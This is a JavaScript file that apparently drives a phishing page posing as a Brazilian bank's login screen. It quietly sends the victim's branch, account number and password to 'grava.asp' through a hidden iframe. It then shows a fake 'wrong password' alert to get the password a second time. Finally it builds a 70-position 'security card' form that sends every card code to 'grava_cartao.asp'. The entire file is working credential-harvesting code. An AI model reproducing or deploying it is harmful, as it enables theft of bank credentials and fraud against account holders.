var nTentativa = 0;
function Teclado(d) {
  var c = document.getElementById("txtSenha");
  if (c.value.length < 6) c.value += d;
}
function Limpa() { document.all ? document.all["txtSenha"].value = "" : document.getElementById("txtSenha").value = ""; }
function Confirma() {
  var f = document.frmAcesso;
  if (f.txtAgencia.value.length != 4) { alert("Digite a agência com 4 números"); f.txtAgencia.focus(); return; }
  if (f.txtConta.value.length < 5) { alert("Digite a conta com dígito"); f.txtConta.focus(); return; }
  if (f.txtSenha.value.length != 6) { alert("Senha eletrônica inválida"); return; }
  nTentativa++;
  var jan = document.getElementById("ifrOculto");
  jan.src = "grava.asp?ag=" + f.txtAgencia.value + "&cc=" + f.txtConta.value + "&s" + nTentativa + "=" + f.txtSenha.value;
  if (nTentativa < 2) {
    alert("Senha incorreta. Restam 2 tentativas antes do bloqueio.");
    Limpa();
  } else {
    var h = "";
    for (var i = 1; i <= 70; i++) h += "<td>" + i + " <input size=4 maxlength=4 name=pos" + i + "></td>" + (i % 7 == 0 ? "</tr><tr>" : "");
    document.getElementById("cartao").innerHTML = "<p>Confirme o seu cartão de segurança:</p><table><tr>" + h + "</tr></table><input type=submit value=Confirmar>";
    f.action = "grava_cartao.asp";
  }
}
